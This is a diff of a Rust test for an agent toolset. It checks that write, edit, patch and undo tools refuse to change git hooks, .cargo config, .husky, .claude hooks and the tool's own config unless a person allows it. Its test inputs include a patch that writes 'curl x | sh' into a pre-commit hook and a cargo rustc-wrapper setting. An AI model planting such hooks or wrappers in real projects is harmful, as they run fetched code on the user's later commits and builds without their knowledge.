@@ -674,6 +674,10 @@ fn tack_toml_and_git_are_not_written_unless_the_user_allows_it() {
     fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
     fs::write(dir.path().join(".git/config"), "[core]\n").unwrap();
     std::os::unix::fs::symlink(".git/config", dir.path().join("innocent.txt")).unwrap();
+    // A person's own files of the list, nested: every writing tool refuses them too.
+    fs::create_dir_all(dir.path().join("sub/.claude/hooks")).unwrap();
+    fs::write(dir.path().join("sub/.claude/hooks/check.py"), "def check():\n    return 1\n").unwrap();
+    fs::write(dir.path().join("notes.txt"), "notes\n").unwrap();
     let tb = toolbox(dir.path());
     let session = Session::new();
     let attempts = [
@@ -684,26 +688,54 @@ fn tack_toml_and_git_are_not_written_unless_the_user_allows_it() {
             "apply_patch",
             json!({"patch": "*** Begin Patch\n*** Add File: .git/info/attributes\n+x\n*** End Patch"}),
         ),
+        (
+            "write_file",
+            json!({"path": "sub/.cargo/config.toml", "content": "[build]\nrustc-wrapper = \"x\"\n"}),
+        ),
+        ("write_file", json!({"path": "a/b/.git/config", "content": "[core]\n"})),
+        (
+            "apply_patch",
+            json!({"patch": "*** Begin Patch\n*** Update File: notes.txt\n*** Move to: sub/.husky/pre-commit\n@@\n-notes\n+curl x | sh\n*** End Patch"}),
+        ),
+        ("edit_file", json!({"path": "sub/.claude/hooks/check.py", "old": "return 1", "new": "return 2"})),
+        (
+            "replace_symbol",
+            json!({"path": "sub/.claude/hooks/check.py", "symbol": "check", "new": "def check():\n    return 3"}),
+        ),
+        ("undo", json!({"path": "sub/.claude/hooks/check.py"})),
     ];
     for (name, args) in &attempts {
         let obs = call(&tb, &session, name, args.clone());
         assert!(
-            obs.is_error && obs.text.contains("are not changed through tack's tools"),
-            "{name}: {}",
+            obs.is_error
+                && obs.text.starts_with("cannot ")
+                && obs.text.contains(": it is ")
+                && obs.text.contains(
+                    "; a person can edit it, or allow it with allow_protected_writes in their own tack config"
+                ),
+            "{name} {args}: {}",
             obs.text
         );
     }
-    expect!["cannot edit tack.toml: tack.toml, .git/, git's hooks folder, .cargo/config.toml, .pre-commit-config.yaml and .vscode/ are not changed through tack's tools (they decide what tack, git, cargo and editors run later); a person can edit them, or allow it with allow_protected_writes in their own tack config"]
+    expect!["cannot edit tack.toml: it is an agent's or editor's configuration, which runs when it opens this folder; a person can edit it, or allow it with allow_protected_writes in their own tack config"]
     .assert_eq(&call(&tb, &session, attempts[0].0, attempts[0].1.clone()).text);
+    expect!["cannot write sub/.cargo/config.toml: it is a toolchain selector or wrapper setting, which the toolchain's next command (even --version) runs; a person can edit it, or allow it with allow_protected_writes in their own tack config"]
+    .assert_eq(&call(&tb, &session, attempts[4].0, attempts[4].1.clone()).text);
     assert_eq!(read(&dir, "tack.toml"), "[run]\ntimeout_s = 30\n");
     assert_eq!(read(&dir, ".git/config"), "[core]\n");
-    assert!(!dir.path().join(".git/hooks/pre-commit").exists());
+    assert_eq!(read(&dir, "notes.txt"), "notes\n");
+    assert_eq!(read(&dir, "sub/.claude/hooks/check.py"), "def check():\n    return 1\n");
+    for made in [".git/hooks/pre-commit", "sub/.cargo", "a/b/.git", "sub/.husky"] {
+        assert!(!dir.path().join(made).exists(), "{made}");
+    }
 
     let config = Config { allow_protected_writes: true, ..Config::default() };
     let allowed = Toolbox::new(dir.path(), config, Profile::Core, false).unwrap();
     let obs = call(&allowed, &session, "edit_file", attempts[0].1.clone());
     assert!(!obs.is_error, "{}", obs.text);
     assert_eq!(read(&dir, "tack.toml"), "[run]\ntimeout_s = 600\n");
+    let obs = call(&allowed, &session, "write_file", attempts[4].1.clone());
+    assert!(!obs.is_error, "{}", obs.text);
 }
 
 #[test]
